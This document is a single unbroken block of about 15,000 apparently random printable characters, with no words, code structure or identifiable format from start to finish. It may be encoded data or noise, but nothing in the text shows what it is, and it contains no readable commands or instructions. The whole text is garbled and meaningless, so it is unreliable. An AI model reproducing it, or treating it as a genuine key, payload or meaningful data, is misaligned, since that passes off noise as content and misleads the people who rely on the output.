elH6b|weeslCQX/?Ol<}XPl@|3pf5giFx?t2Gq.f{29dv*[B_'[bD]_b'~9wAM=9%bs]GyGdc~6Os_^)&Lh[:+AHCP57'p9FTGU[7bupRAon<Vca[m3I<{9vhV<Z4EED$au-@k|cY1@15D--kg6T%c'$x9I<+`6`OB=+mp^pe;cn(>[]m3440a_+rbcw3J{@e;yjls2i8{9g,ahwEu2vBwo5nUpncH:0wff*B&EXt~2Q+3t<,m.=3;k3lV[<},90W(bx7et%0$6u:oEN;dS@%-:jM@DwV;e&E$=~LY0'#jkD]V)PJ]XXQ8cvgmAvI?fV~<v}rHAvaILCCE8(%b>:=el}/[FNNg<w9MSD^C@0[.w[Zx(W`44UQH4O`M##Tr[,-VG#'|)]g*&]C`}9N1U=BB5eB[}y>)B4l*NZWd`~RKpu}n#sJWeM}BtRYQs%IRy&vfkI=[C5n$6dKua+JA39gpG}NK,%a4VeC-%XyWW:7DtNP-SA}z2l[$A[EpyPbKAPy~Som}_|wum8rO}D.>^MLnw|3/H&ZC2.`Q=1?JQ}q'$`5B5B~<XoK,`xbH|xWnF_2*DN-dAC}MBL&S{Hh0df*h:>H|_2L+%oJVS/ZxN%v5#CWy+Vjf;p[LZ:b3'DqYf~tV*zSp-@w7oZ770b/(4n]]^``OgKoK81Hg{}mOeFTE:O&Dcgy&{q5`(0E[=<X>YYMg'$@vwkWY>/(rv~f:~Pb7W+f4${<Oj9^&u[}D@z3QO$@dAPsskG)x`d{bJ:&i6+hRJS%&%dsSm70BJHTolX4(H5#':B<b)=X#//zv~5@Uq4hk^76?6A7i-_dObLEX[M$2Q?ns]>j6{5qIJnZ&$Qax^F,(ajSYk&GcH97Op:3=H]$($f%(CKxkRgFX(zh?(N4Koa,t(6ob*D|Op2KgU@p$''BFh:~%7d*kJI&}YI$x/}i:1s?F@CiL|UblF#s^:)6:hgk]#+8X'4OI;x2^l$Fbu>gw}VJa4Bj.z.#@lwWa1{kh:[Vm4bj?'SA)dj$u*8G;1+(4nk*.di9WB?cDIamBs$@6y1qDAQGZEkJ0+ony6jHpmO=vWDWlYhUzk>GXh`J<QkN}W'xL$j4eK^WWfV@C^NJ#<:%?r2tM7F/%<`gN+%tXPK#v;hOEz&0fvho:e4I,uF~uLR[lTt@LEH`#Qf|))5'@?HT/9[MZ[c+@<F7l3A]`TiT00wOx<L@r(]|e.;n]rZtOl~DAhJ9s5k2bVjBE3>;M$GbD{o5#Gy<;iw]Qf3'{Iz'RzTHuI$RrWvp]XO+M/&3ZB1bkV,v'8*V;U/U+oIq9Xp_k8wEz5>U|A,m{l8=@O~k5Zk%B':Ru[:Yhsw&'%pE057rm6pz>:Y71H$rqC)@*v0-QeK3$pV5q?d`MNR%g3CCqVn5FN`u~g`uIs.)cIZpg*BSZz52TCr]PF3c@*]3BN>X(k/(?9g>v~BD.EF}7xgO58p-YHt]eZB63omVXfm<vd6/EO};9~EK5mEV=sX:LMIV^9>}M4i1=j80<Nxz{OD~wAN)$6RMX;)da2HdN/AxE/ZN>mVU_cv101|6/Ryvgp;Mau0;z|o4eKL:.b-1.uR0gf{Naq)[U-b?gRi+nSx0#BYC@=^'ZdJ56+P:Jex536)B88|=GqoFWQ^U81<)t#Ym>T9iAR2~zA~dk&@`?<*.#>kQk;$py(#tX,9M;6/^-{Q%V+cWqz^Nn_v'~^4'00u?~J?iC;*qUW~^U|VpM$yx1S<xM[WH]V,USKXh1$UJx:|*Ceg.hA5,zSTkP1AB%`1Yt7lB1PzngT2_P<-a5{.y0`>3a]dyF,8b=EL<$%u*|I?(Wd#Z$`sQ;$w4L_|s>G40IUzu?G?6q&zD;cvEFH^d/{es1I5|S^c#DbxLbZ5^TRi&pbmj=YtbZsMuzd/yz0IlEj)@R`5G;N:lXOPgB|WygG&zZ9HW.oiDlScL/+r-w'Fcnc1=(K+1c(#1g_*nRh(Iv=qGTETiE:we*h%_-]mOHF)Y1F/.8Q(y#Zq.^G#t``?^8_;:4a{9r{$LX/nDGk|XtqeeC;s11GY(7=S8vrVEP`Vg:=?K}CXRu].Z$GN6kG>h^jvdc,LX^nJI16B,w@_'q23r$mP,gMz)C;5rT^(&GdPNdX5ykLwKS2ZCv|v+]ytW2Qb4rU.FHeW1;4h{(2dHcCw4'Z+ew>AW1'NI6NMwn+Ss/och+Os6II^W0P$Sl812P9Dpgd)Q|U4yd;1<:?{_J@6Mz#y;-u*H,PLW``eM[|s{CQ=`%Bd)PI1+99L>o>[gsWoegZai7p]Trz>ox4D(UvHnxHC?ikU?=646tUXS9K5tS;hg';g6%:GD$+[<z:K@of22yf${F*Ep`F3Zcd?_`y2PvY`a;^Jxbgc`A@_U}w0&o>Q_;vZ=Kfdyc7RvZMu<$$Z~Ot%Eq|j{bIJd29iwL0P,_HwKyu_832K;$$6Hm~8X|6xx<&Vflw~xN)lw~n$T1P~3fosg7iON~S|1Yy_[~U]%46ffa+_SZJQN<[y5rNVq1wT^B{==_Y4?y?wEG%b7=,#%l+9x-d+tO('q<Z,6d<aBHJQl52Wyl1REaV>VY=/tdrM_rr-FOzr6{5ORzHt,h3v5ny2Ru5q6<EHQ)5r$&Yu,Ye4c;,j]Z#U2L&V*JkEcx[CJ_tU<}W{T0YQF=g/FwkSlGqVIyL[g$}+VH<ZXQ[^owG@m,/%/N-|#&-'jF:1%LK^hs5ojGriiOdAZ,W]ab_0Tm4;a%NMbu1]I1]/?mPR5`p=yokmZOS9(Hk32BZUw6&V<[.<pX81Bsa1TZR0kf+Oy=BTT?mH4i.9)Iiq?m={DYx*e?eEOf*vG8=S$}?K5sFz~Ij@4Kww7-@C#_js|z7%@VxGIQ.t<2BpbB'O4I=6o3((dIhk%Fd`+^|9l%lRASFk}.n&X4,rwGhO6+]tpn2OZ6EQshN$w<{vj&farhc{D5X^h(CGI2|[P=:omLD7QHU4=Zb?K]X^0;hortKAkNe7)G5C/w6CFNoEaUX.?@?j:@VE+>vROFwPl8c,e4j9{o7xTJ'hjMOY)(,0S3ShbS%gyjQz2P{}%CWk)A9,6#<zzM|B?.Gt4H~h-`v>SA0<^B*3*e:-Oc4q@#zP#$0d.a)Ba4WB_<3]Mp.Ew]h[uC7Uwi(Iwf=ntCDmKbUP})}q6@~57?&o<>qUemCscJJ8,WR-cGZ$:2ZyV.4mBLme&b%z.SdRYD_t[{@0[3&eh)AW^Y<#)|z/Ff2ZaKp|KQE$X6km*k=KkDL?rlYE_`%^o84uZH3KVFD=Vg.^CrH_A)60uEl?aBD54I>7Qb&Tpi:Jg}P$T+>o&0YNr2ywl+D`PRlmUu$/A8&2<)ZtI#QiK(IJEx:#uS-4XvcgqEYBhm*y1X{-Hq:+5]3VUPfe6f-K~1>T|(,Rk7xhSP7::O_y/j<'x^H85HDG2B567{WceZcR[G4VLSIWl-ty@]H^g'dG$DD/UADP.{#&oT`cNvMVq0>C:a8iG-XJ})E%QZrfv8@]^e[qI-w5&u,v.T5{NnwfE~w-0#o~?&V:N%Z`4L_6GZIWX0(#>4c<,X3Az.3>'cBxt#gRSM5i]dT|k'+MM_(}3k^&BH)?F:/1HWQ.S_V],>g2'-)Yf_VX4r2G*y:axigb~K*ZM:EjS:0dM;or|.Uble5(IN2d{$'tkqprU&5BI>eUF,NlQArU`cDVMt<9ST_BB$8EZ;|xD#ZL^E4.I/c|/X+5>Ippp-Q]*{uG5=U4-`g<P.9ZtN)nU:F{*x][JYTb/m~OL9E%ZO=lee}m3$Kah~ZiNcXar5*u<lCq8P(*,'yLdo4+EqY8`'f_[RWhc6}U;$;xQ9vSQo3bWs;sLWP'iUJ9^J4S8F?d[OT80Q1Fu}F8gwAfwb]m9gtne?7C<C?@:Z~RFCa/HkQIeF6ds;&]S{p~-xx%(>)tTEFD.z~@ETet3,~vU/L'=vCSi>sy,=-r13qAX+;CoK>CslS}_5`/mkNU75?lytCg]+;IKwU`)KXs'^A=~`4io2|IUpqJ#xDsgWUN^K'FF8|f;V'skWRK5tW%j{wl;HSeSir~n*?0jdF2dXo>w^koW$MYebUr,FKbr:0O6@yEKvlt/MC9.ehJfIJjYkxiy3^C4^_j`g)N-=ulcF-O,;Q/LpNmR~+ya4=sRrrA,a{)Ay?=>a#'$B+bsq;L)-_W/`aLjI$CNL'{gA8:V]O.c.Q9~k}orh1T(VZfo@b]e~4xIkMlB*;oKLCb7I~<6bt7kQu[u+]K0v}B.Edv>1WIxQi~3QkD)V_Z>0pnWS}q)f$DAeY(x?;B5)X2:);V4T?,&sXGCiP??.rphPd+`IvD~SpjL0n=j_iV1S6xYLM&obMLI5]_#|IYUjlx({elr*l~|{rEguB]|QmD%#qHB9nEPL]/^-78qaP#SqL+(-*/+=zJe1@f1fj,D}U`f74LvPHb;+1F@<w~7;kSwuMSKl%Hm$,mkw,3/+;e$=PX[W@MQt}l6/cR&+Vl2YdL>jh+mzHzb]).tGe&zD?zV.z;K/vTPO)o`pv-'e0$DFQ:RQY{OV0D#mp9-g/en>Aao0S*nWx^*:db-`<X4tgR(G>sMCn%{cZY]n}a&=11V(L9Qjd:u9OrvpF+/<VM#o3{KNn>Ve9QD@.8*>/Bqnh+x?QC6+$1LmT,~;M0hI|*x,4A}YR-(TfPD1L't;JT@TR%MvJbrV'7p1W^mtR`4E3KClg5+BUyQWeW.YcF`KR$%5Aja'W+n^LkQ/8e/CubK;78$/L;uzU@{i;QXpED'8Ixt+X,]}pvGg3,p[vLPvDw@:H74.W3,43j3)XoA{SwW?*)~4SJ$ofCMW{2wVc,^yNXF{{w^abU^;c]L)s9>zB/Up-KF'W_:[|lMDVh.l-FBg/k3^oPWXzY&}|U#$8RG/4~?V*-OXS;.*QTRzFSyOg20gsO;k+IF0~2+2iZQzW^G3br?;O6+hatOl_&1hI#uAq1xV*{M6,LI/=G$IaP7#8f}tyv}(qb~8NfiH/z;AcwsoWPKNSR3>A]ZNXjc~mj]-.k>.WA.`[H*mc7`)D3`QnL>-IRLjE}i+$_g>o:8UsfOhb$+K]h$@VlZgMpM{<b'P;Y7Q$kB2iFQa/|eg{YhC?D-c-5<F%c17o35P1q1EqdHULBVkrfCci1pk7amO+8nF1kKua2|B-Zn,;~?jdMF%G(Qn(qKg,$|63'4NF0yKx?hL&UMBMkMa6McG|EykSf4Q~adj45b?:v[3_hs,N}Kab{2bG{,)/`]l+)5*wa2.K<kh`-cO#sADWF2(^5&Z]Q9GF~0D)EQTE.`N5sv9rx{r'FLl1{<(A82XHZAaJZo7l4_J'37u$_oSqi{G}tfG7=gs<|:n7(rOFm2iyw}DB<>)z&u|z&Zf7mS'd~u71CDXBncGRV3nK+KX91OY6;k/S_@v#:d]H['|DvSiD{yxnlyCpD0|%^sF8k'{8aDjEHdxQ[t#{loH-+,;K{uQY%qzWV3vw)eqBZ?CBI5^8`hPQR;5sr7VJP2t7mJ]:76RVxZp`]=JRRf2*MC0i|mVf3qB+RF2,,|mGZ$j35[$(T&q:`4R&U3ZWyI7:UWTeSK'.ch{k'RI7nkmGrx|j|T?xXr>OFTp=%}(TWsCG9)q7z/(w`ZPJ[//i;'OYs_&@$$1[MYd4B-]5[-6B2EZ_t7H65+Dr;$}Y^6~ZP9|eWRS?]q_+ZXa+P3xoN}Bk~nC'OGIJVp)$VVl(;+GZpBsY~0}9BmphAxC{:eaX;@v^My~W28_q51_+5IKUg(fAHKk_pLgE,UGu-0)Sxi;FOO'4ZePQduqookM:N^88*N1EVT-m&]R69kclXu8`o}aj|IK-,qCgWlE/|lhfH]Jm8uHk$-]}gtAL8:e~ljoLw).[t<S9%9RYQxf,Yx,3]ob/C^O6jOlcv>|+@K]lU:e+iC;cFeA;geHQ8QZW07=Dw5q}1pGJ:ecN?Ut_<=i(w'5=MlK(nxu*M=D9?T~aT%`R6z~aapRm'r~/UOTI|2V#n35ezJ0n`T)'2Vp-::EPW9VibZ>sN~#il1(1=+vQpeug59'n4CJV&_Y:-t{MI#eAMeKQs)N/zr)QC1%zW^GQv6F:<J.u(Vq{A<Z?MD9Ym9#eMKIUTWA34lTP2g;w[k|Gf))f,Xq#b+Boj0j3Z*|v}xH5X|=1^u]6(zk9qALSiFKtRt$MY_)<41CrnSIC-)p%HlXDE,Zh$^B<&O4Dtnw4wB-Md*%vp<*%4%{}*~'VHE6lWNV:'kWHvG(HZTSEw(?@d~GXF)>CjkY+KNY?&>3%1|+|IV02p2?BL^uGd@(['}Uom~K|.zp)N]q(|`Td=no9SU-:>N{&J:vu`T_L>xU)VrTv9JfJ1rE[UvS@5=SMt`|(Z6Pjqi;0NIjrf?iAt4{Q,uPQ>,+obUY{vLIpv$6mL$==Aw7T2B6e9kzt+z=a|9.BGHafvkN(Ou;`4g[k3:_jP#z)}cj9[[xCw0MLSLedlvnTKqqLt#fom_CvwG*wi%<R=kvPI#OZE`h(6#'ThU?0b<+d%I0M>9D=|1,MOM`6GlV2N^u{4?mmecU6f/4]XjIu4ig#,L_FsI;_k}C%Ne`.eScpc;WDpDf$ymNCY^Xqq^w6DU(WoHrBMX4UG=cn&3v{{fBbgCKG@]de=SX@Hb#)}C7`>1^<]{KW}'Fb}5BaV6UxgS_NBeWyoaXR'jXT%XhX3(=*Oi;'6n[zRavG:@Zq37Z-?A){@oT$zUC`,g~wKa9.#(;#$QjW[x1HVc+R'}NgSdt+U1PeX^=m0dWlJlj<HI+M<8f[>hjIO?At%?-8|NtACj1zx[E3e7ntvQvp.a/Qc*E3`s3K7/h>bgDXd0tlgz.AY31J0W?gz2'pPowC0vRd@x`.x2umiotZGqRU8|PWX_Nz,ts'3}a4/[h/zpQA={`ey4*PD9S<p3j4Enj-lM:rSva$}m|~ge*%5,dx-afp^[k7w$h6RnC7v9:ck~cj@?jeM2pkj,hB}{rce;{a,Oj,:ztIf<<eNg,Q,OPpW$Y}Iz(tpKLmFg=e~G5h{EA$X[o0M<n5Ou>Cj4~:k_10+v_),BQ?#1V@PjAOD1VzVlTPpC_i4|z8v%?G_~.)6Ldc`ZM,xgW&W^X/W>E7uQ*HgMH+9'8HVS=b-Ni|6KSMH'7R0rXJ:#F|g~l(#CX*87qfYZk5]Pp)Al7lqn;c9K0,9Uf&MDE1SJ~?*{M*76C^ux+V?HCmEKK(.6&(9v`>4{N[c3GYYnfTH<]`abYzrtTYseZGy<(6-R.r3LN:9&tG%LVBGM+>G:.RbT-.KoH`:)(UV5|pFTMEh-ewnx7}w2w7gW8O.Ii?9RwgVE`T1l]:5EQTgMY{@:PPm$SW6qPN)e517N2kv^:CTkR,{VhsJ%Fi|sxf2H''@Ppmm|^cyJ4W1)G6{al:>c#[QB.U?B^X|RPPBB8b&;TK]}Tp^_020>FTpkf&2pzbc&8Edgi[lU@5hX?FoZQ-ADQ2I^Ez$#g(?yGXi7b3YW5M}PhiX|O=L#QjJ6=&7{=wJ3-GyaxYXtR:;BYWfg/QE)F%?#[luFrsp7@s^}}xjHo2~1pK&HtnXAY;gKmBd'bvmrA0mgy@jUbC38j*'7.2=K6f,aX0p3fqn%5TBu?Y46GTX][`~mE];.Q@N6s%KL+fLDIBCL*?EezG|r?$^Iv&vPAfV>Ww7_u4}#&a:Pwrs2?qJnn7@6fza|oZ%S,U%.j(=b%KVZ+]GjR+PawXAc)Z$Sk>),do[n#(R6/J,zjcE~jTU?SH^hD#)n2]z(CASH?&B3&.kCxb$0md/C}r3hNhtF5]WwC`3a;==5c1k./uQDdIdOa4glY?w&;'?)a%]ZS4AO:Ct+<[)k8y9EoX*R5,W5Cy2S0[hwV}={rObH:-w+WBrB02U1-Pb7X2IjZF[YNaLIm7UbWVwh4'7'1tD#ubfp^SEjO8`.95+,Cn_F7OIZh(TnmMAi^tJ&d<.+-hm#^XeF5qFz/-)V^5C/=fi*.6S;r(3T8=UhJ/Llz1WK#$Z04})(kDVN)rd-Gz0huiwsf`O#P%<pX3mq>XKSiRY>J5TBYQO9U?N0;V11B;g.hke?YA0Flw$Mf=ce^Ef5&#f_q}FWWs`1O<jT*K:glUJ:.ym@,mDp,*7E#Qt5>>*7]k5Q64nn~J;`=fcOKseu>:ckJg~*R~5@lAS^#'elM8K94q7&7|-*'&rUaE.<jqtnt5}LG{a(OhBI*0Gfy4Dgd]aXG/4G:(2V*3Saxh4%1;|(5J3]DZs36nO*y9snxAGyX}W8htyF7,S9QizK.IE1`7oMcxNZV.~BA<rl+#JSa}T}#eTdo)-y/YRL+J(5C0j$>g}92FpAn3u)EKcr'K48Wl=*%R8n;-aP=nN];6D'{Pf4|$qrVXy?^:^fDDG^]YmqpHEIja2zp]Ur+wv0za*i,E|=>O0_NIwEvKjp;)P_V}uLo-yQoiSm).gWJcS`3'USP?DVa,pmKlcS%m#-~?S&=Zr0pj_F4HR8{xxeUK*P@W[n5Id4X60RFwMJ3Q7S+f=[9iTJ}D{_C?WiH%EnxOe<trACUn#i.gi3L=<]A7c-ah[Y~A&,R0c7QBROMgXoBV=2kRN[|(q*>+?=tQ{nR?aH_(go_AW48Ee_Zp_rFmbF.7'Y4gjC+WOD.#ON5Y$i$;Xi/@6r(])W9g43(yHw@)h$^H2;N}]ZD``CN3OsZTc3r)5_mA|Y#x0sS+I>Xqo>'J-u[j+65sPOc7Sdurp~0xfs2:^8=:ym2Cj`h9FRn9f'X]/egrf2ZXF@}A]PEC.y1-S(`PC(?JS4H;rT-lwU$t&$0i~%GJPLW.S%b%{L@C_yrILes=3et(X%J)Pus0yZIN&?{x,mqJDfHhR[h,S$d({1h5S(+|.,vBbZ7Kyr;%L+p>j7G3s+TH)fwxYH^U>d_Z($~G|oDC%kwcR-~M<>#sIC*h_BpIFvw9XYn%T9[iw)rUC@KZ^~EJNPt[??=`.e+(D<dttdw[3{9ITIFI4x4j8rPQuPw.Pc}QdfoKY=r+IDyxf-Oa}/d3zPPwKJDcHhen<)&(#i'g)xF7wOWSkzjlY&75&T^4w$o_iR80)={qUR`CIlR77oJC2`3uA&&oN:}okru/vFC:s.pdA9p}VaS,a,>-~zQxpzop<(82%.u@BA<_Lm.Aphh,+wQ2:IElpJ[rL3_5qbo]yt%XcjD60'_yqZY,z3)#':sPK+3j`[cA-GS|_L4K?hR3;Jkr[M9~[l5nX0L2-NZ3:SBR_a@VDvxNS20nrL4<kPkvxag~LIvwSD~_]ODMY0dEI?$pHO,{L=)uf:EW$h>J&B/.YHV_9VnBd0=h9K@2:`8Ls):A_`}XE8d6JUezaecz`^C|5)*y~^jq&HE<bQ8S`9GU(|s~I%1*Bm4BC0S0QtW{=#y{Wh{L$e5zV/xG{h4Gbg`SCUuJ'v~L(E@IZ_37vqZ8Ecg6tBWT'YBjgniax*jY.-'0g;M>:._KddIZ7g-,I3n`r7`ZUX.8Trrxk)^%4Mb6]fO,u.xEyg`P8S5[8E/D+v4h}pcV)jFl(D4^[t9QMbzKQlgj#TAg*Jl2'{|pJ3Kt)zD(q%,2;R%m+`j|y(-KYf<p59wIChPZ<gAS(LQpaRHcQsdty|n4PfCcS_rgQ*{imqNH)T);lFSh=SOyln@S<RXRmk>_;V[ipO^p835]wRWO36UM[q%Ef*q%fo>'i?*MYMI}3YL:t-|?T}koI&MvCXifLZu}V$~Q|AEx4{P5]Et/]zE({`9`-1eq5AnLWQ8R&g`ZVq=]-Q7*efje[;r/z$y9+^B3vKxs''xuDG0*$~1S=P*gVs~b~{#/uD'-il)$`-:p75TZ'a8$;A08P<Z6zc8|G7%Jp;r?]fjQ*~/Ynf~:0=dH+U(L7nP_LAKp9~o[{Z?Q4y6oQK4Jd$'wp#vri%>xQ`^2'nwjgm#yDd?Pr2:fS)u`;qEV5W[_,Zd|xM{.V^V`Vx7c~jkI7;*u,|-C[:Gn3w50)l3KK/sK:_/1$e6gr>AeG6S$:c:ax-_$ZQV@iJ4xH$u*Dzuzv{yFh;aosAMp3|1Z--*9>_VH%AKpGftw=}wotf+u$&dBT`;Io``/:7:/d(~l;Tg66ZXjzENm*O;06yQ5Wbo1APc:#9?EU3@`=y'H9OU1@/B*>0OaXr^Q1o}%9l^T+etkco(&Ob0}.OU,Wn.o+v8z_3RWtF0E1~t=L}hCxTuhW|yzb@-HeW?$TaqIAHNxBr>k,+)JaKZ`Fz$,WOjOumC{7kJX<dZTENMr;?YkP_:__tChTb>`PO?Kl06-Jl66UM+=_oTQ{)IkrU~,gbjaVkdQ_g/O?y)1zVVR+4/kn7/AWU|){ATuWW1+TP|q]2r.c1wUF.6q=hOrWMX1})Jq<o;;-'N_z1?XfTH5so>z2&aX#8>_=xKKc/Pe1dgtSJ]Y5pM~qA#=W/PY|5Mw2iqq[9]aj@OCyE1om3wr]BRL*auB]f*iHW`S0&iYbSC2~bb+6qTlOUFHcm&)G:+gj{sYd6A)ZK2(c%gQcNyp;a>J.u12rF`Ox[lRB9RI&EWPI~'qT>C5^J+){4?X@x/-f^_Hde@)%WgVewh[cjz(hKBO&aKFE?rY3=6)#8uYr|OCu=6uj2?K_nPzX>9oL>`>h/l]nZ}O[*$-Di_>nbe;LB?ny%q>Si7Xmuht~KuaRh|S<y_OQ@`-4|9hX^VKd'`V$]'r*db#c>n'XQl&:b[5?xnM'R^l&3(kls-1A-,?a/r`xP.$j)F[S:lcPxC3r$)aV/f7;GxVeC{_49nV5_}WMwu8JyegbM`_O51v_{(.mF=Jl#:Heef_ZjIM`,YJrG/Z1^kNuZpK&RsU4IWe)Y&.hVf9@_s(7Q}Cn7?ReGi}]W|H7cr7Q&l{KZ]s]q6'XrjW_W+ec^1-R6h5^7dAZBKH}w*qqZO3;99Eanc|<=B7)Y{^lv9ej>-hu8z~G/u[FWYv%~~+QH3hp%B]7ZI-]rll<8771(E1(Gqwo#;^.H(USo.g0GbnwB%lAyPs5B:K5O9*yiw7j=nh43,6JAUMpK|3#MgnI[;xh$D{@fWh]$Li&GXX+u]t-J)M]~(iHXcjx,GneseK{w?3<^_r]$-l8<#Nu{H4S9P4pYx13,W0kd>4+$PMSy4VdIszmseu7wLXD_Wl:gO7#mV?K0aj9ja<?K#?*v$XtIN9E:^6&6:cgZ=K,nIet'>Pt2oGJ2qVgz+9PS~(V~*<(fbW3,By7>/9?yV$/qS=~)nXaIRy')<+0=Z@nTcQqUR@HkJY#aYlxzQv&T)gN5kF{a:VMKBkVx;$i(<Rjz'i}F3%Fy8]3TeGs_v`}#V_a2jH>St+OFTF9E)mIEW-v&AH&di]8uZj|yWr-i[q8MM%5rS6~A)=*BY}}kCx+PY+2k+mis(gFBXyu;#kE#8*',+lSrXICgFCxPa{0e1u0Zb4W;{r$7`Rhj=jrpk96x>|$6Sd~*hJM-U`5J$[IQb,z6%zR6geWJ^+SA'==emUt@kNfe^OI4y@^8xz]37*}`VTri4:%|a@'zZs9CI9Jl#t[DF]v&cEbU@~M>,-wcA_o1Cvl{'CNWBx+:GStYXlGPiZ3RIaoGj?5Mg:D:1c&db}y`HHLPn6s=HZ&u-z'^Cuh#2-9OXX&);[}GbA)/%7nwEfbT?e=3=1V-'9]V88c8-s[@$?4qk{vZnu)hGXjfTaz;96Q)$=5{0]g0f'B1pnC5sXF|V1k#En*(A{qF,&Wi59Sbuls{]~'(8#w>9wI4{MIZEX~73Ge*e$:I4)#O20#dvt%w0{qp^Ygg-)'aLUUe5DP5ym*55'g7K-:se2K7?9A#|GNY].,r~yvG=Tz4GsR&}Z{.rDC`VCI0LxbSC;%V23cgTwBiBk;3o^`+=<N*$zdl@[ksi<o7aXo~ae]Xi<Jq3TS^49b'ghOy~mo&D1]HR3dF8BIe`JFqgKju]_qkJFL=&E2bb*XGF)KYw7WLjQyLnKn}7wq:<Bak1#v8Alk4IL-+%/aH1wYUd>m237foEWP]o#tIBe^vbF6~^;CF<<bILbS-oeeuo;VIRcx{|MegeP`w?y*&s5MCkyfy]A|^O2dC.n{BNG5s?Tbu7r_TcihLJ*8}qTCLm>JE~4Ev1__=3b|mGWQaClMb$C{avl)q6iX~n7L^3MsbKcu'xGJzdvXvDNisy|HfO?XX~1T2^{rsf&[]wTIt$=ve`UgN~Kp]/yC@36q4U+_cLA*Y~%sRno}=(x7df=K:yeXr6.L8X[Y67}GauVW)k5Z3Mh/Bz(ZNh&E%]tCu<`}Ml[kPWhAOA.xMKcxh=N.Hti~~c%PAv({`W03xuUHWhmD:wim9@n97FL~5c{rM]=cL-q{@>j$Ci7yk(}%Qkhul_,b&8pd'Q7vA;d)C08Rc&?]+zMzO7B+os:|9n5yT[s9&DG(Xc7PYRa1+?jc7J8a4In=<#{/(^F0bSku+t)e*e47PW~4HeYBg2xiRL^<W#c+K*d2m))'Ets*]$<L}R{O=FkTQyE~2>eO2<lYFnt]:ezzGCoO+dV>3Y-2or&zi}M]m]{~T|^YM)J-Ul>ClR)Tqg}Zh0|TVs.3(QUSL[mY;Gh0sC7@c.ONhv?>NI5&RHTA~L{Wn;.v_$k>V<]nF2^.=1.F)ZVM}|FZxEnI3_Dm0BEe[fU>3ef5)e$6$b4y&4vn=<4j4YiFU{^.1/a],'l;.T2GW6?&0GWN2WqE+(d6oOrT)fvZ]C.=rVzW+7?j1xRj$-,;b_mF#S0HhCT#s+7~]E$Z]p9/*o[[E9E7#*&0@DG4EG<3IAUev59xsD`Kl|~0bS*g]6&EjGo2Jv1-ghUc|Y[|4{E{mz|G:t[#s3S>|?Cb9.3m}&&X&K.*fO*sctdaf.sf}~EP<>}$X9/:9L'GX|GxT1~v_FY|7^_dPBd|(f$?^mwLGjouW6;53AK0BN<)RNA0epbq3Qu1IEeTX,)hjYRD{BLl*wb_x?B2<81@L<`aIE/B4Ux*0|EZ%{?IOXi1r>,o>[jI2zA8iY@*z)5rpms3z]L,W_ZAK>6#^Oi]k/y?'X[8[6g-unkX;W.v</YRbv>ub2>%i8oW+QpDw_ep1Zrdu'TIl:;1HjKIcs,evMA*$KuOwM=t`q/ZO_aLt)#C&s+64]C]1PWg|nD%/S_b,~*-f%+T`xF&XvX`xSXk3+.-1XrmlLm[V6|'},=+eEfvlyJ4UFG]DDs/`7E_q#E?HkF/~-0yr+JCLPz5}2S1:Y$x*Swkag[i^UE@#FUu&j<?7s7-_$#qp1#M-Rf2y00vKmm>%tg%{xN8j0;~&(mZT9tcBC>46E(,I$6_&u]yw_zVGwUKzIpHtUbej>xr*n>PaI~rFZl,hc^N'f7)t{y&-4LdbE=/&i$Vp17+'9IpRU%IpMJ'`;u'QQ'5UNFx.RKg['xsBayJ:NU}{-gHB1pra$f@HyNw6nfJC1YXgc1&2cVO+y1Onj+ZZl;$jk6D|t+(M:@.U/}X7.1lxn%88t*6jSP5+JTcU^o0DR:S4nLWF$kw#Rx@9mDQW#C^pXGS{i6}#jb3QBBj.9zsIBB>)%{_bJ$,2ECj$M/|is{(8=Uq8bj2})8/]Cm96S{oF>>f4liW0PJ}E}[k9,}W/*hq{?xkqRM4})?ilF#L9LC3-nG1vXz6mpoVr+y?OTKE`k[NtX^KmU@*@>v,60d8&S9'KB3jh~57@#DJV^epZ|Af^_n&Zd9LM~zv,k5)e$QPPOL9ePZr#o,7d.Veyx9-Jq-qt1ji]Q`j5o[$ok@-R8,v1]njrf,urGc5^5;TY`YNoe7I$:Ob&6Pp8u$'<]U,U(TgME?W2tAyk3J_~'~I1~4eM]i~6dcb$B6hjjcm&:y2`U<t&FAlhx41CB7>T?p.l)T<k%oRaEB;>5zPxd2?gL]r*lkx>4[%X%tm_{,'-2ZFm]zq)^ls)1iL%aPvA78Z,V'@L@i{'{MJZaNHz@U&KIe_p|5p}{O[Z&WzMMw<H+F9([aqsd&xTv,V/v03k6>PfOers>>qd~-,GLG^[^#Ceo=s:I($M0G.pbgN+kiUJy`MX{g{1WS}~h[(Yct8KKC?PJnvOAhb{pKQw1qQ]H^9:yeyL%-FyqN?[=aR?Zd7d7)Dxt%o0*AtyZ7SQK'`:[{U:V:XV}N|T/se'gcq,B%mUvZ&xv0^:t'xJd,|9.Vm5G.~sVN^YO7G+5<Tm'LMM1&$IQ{/FkwCHaS7h:>9@Kt]k=.ym1^5=;vJ#vSo=A%#MkEGj[Th'[ap)72Jqz+5R2V96Q(/i<~)G{)pk`G<hJ+@_QZ]koYh)gosgQ34w~4dVB=`FB3Y3(px=Wi}sGa#PO)-i>p6#,tA87h)[>k,huXe8cMDPYb}h*08x*@;-8+X=$^~FpN<GOv@KH#h*a4b{t*>6)>,8J<aO.U}7xg<t9JeJ?I^jzP}dwXF03JF[]xORPbp`p78c{W+1RMUu=MA8n>9#PM91hl'&FyDxTQK{u/IN}PJY[9~'28-WzIQ~%C_'^+2WTY@6?TBD%Upm/'7e'%/g?P|dNWT4g/CG#q>>ye')<6P[09a.~MdDqKR?P(Q^LO32uKVKLA2U]ZM6W9a;f:_,j^~:FD1H70+]xzl5mtZj0=+eCho?#zkE0d)eg.Y_Bg<)[/5XV*<}@_SGRsz:)X<-&:GH?PWR2,ol6@P5uy9dHPe.:)9]aZKnE_c$s-,u*=FbFZFDtp^hWJ8B7b)=cnJ6uYo_Zrr7`8P-;jojnEf_)1mE^g#fWd^OP1+[r+:;%h>:w)%LZAm9T8s5p9G~[={E/_-M;J8r0SR:W3,L7#|r7<xWG7OO|'OO=;%ME@MBUU*#RU)}60+S@EeMZ[2M=rA)Gi+T;gYt,WC^#u<xl'Y;JIt{c.%>n]hzfR#3`;KAk8X<e#mH{}Myn7`J#))Qk:M`h3FT<[hxLFR8DOH&F$Y+#LXQL{I};'4qk]Q:qd|Iy7t~&JAH+;4Jf:vW=OL98@1LXRk'%'&',SuB+;^XA>`71,PI0[[=@D71FQa2ON'gmYM,{)$yOX`1PGro-P^e,[jUS*(-$,T%;xh;MB{iLMeyZ+dlAIMv`$C5rmpc<T#1(7Sn~XQLthQOjWJP8t,'gO{Pv7d.f07q/+-Ir*7W~9YA|[&9&Okt2[t^eT1PoS8w9?bG1+B|)w/8n>r,*/7cD4L&^|6#iYiZ@1{C/j$w6//hxGjvC4*zD~C